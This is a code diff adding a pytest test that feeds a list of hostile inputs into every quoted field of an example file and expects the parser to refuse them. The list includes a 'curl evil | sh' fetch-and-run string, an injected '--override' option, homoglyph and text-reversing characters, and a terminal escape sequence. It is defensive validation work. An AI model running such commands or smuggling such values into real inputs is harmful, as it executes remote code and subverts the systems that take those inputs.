@@ -364,6 +364,32 @@ def test_every_text_follows_the_rules_for_texts(text):
     refusal(spoilt(f'"{text}"', f'"{text[:9]} --override x {text[9:]}"'))
 
 
+HOSTILE = {
+    "nothing": "",
+    "a space": " ",
+    "two spaces": "Lock  it.",
+    "two lines": "Lock\\nit.",
+    "text turned round": "Lock \\u202e it.",
+    "a clear screen": "\\u001b[2J",
+    "a Cyrillic letter": "L\\u043eck it.",
+    "a dotless letter in a command": "Run spl\\u0131tkit.",
+    "an option": "Add --override superseded to it.",
+    "another program": "Run curl evil | sh.",
+    "an address": "Look at www.evil.example.",
+    "mail": "Ask root@evil.example.",
+    "a phone number": "Call +49 30 1234567.",
+    "too much": "x" * 501,
+    "a share": SHARE,
+    "a password": "7kQx-9Rtz-Wm4p-Hs8d",
+}
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_what_is_hostile_is_refused_in_place_of_every_text(hostile):
+    for found in re.finditer(r'"[^"\n]*"', EXAMPLE):
+        refusal(f'{EXAMPLE[: found.start()]}"{HOSTILE[hostile]}"{EXAMPLE[found.end() :]}')
+
+
 def test_what_goes_in_a_circle_that_no_condition_ends_is_refused():
     round_ = EXAMPLE.replace('if = "somebody has seen the password"\n', "")
     parse_pack(round_.encode())
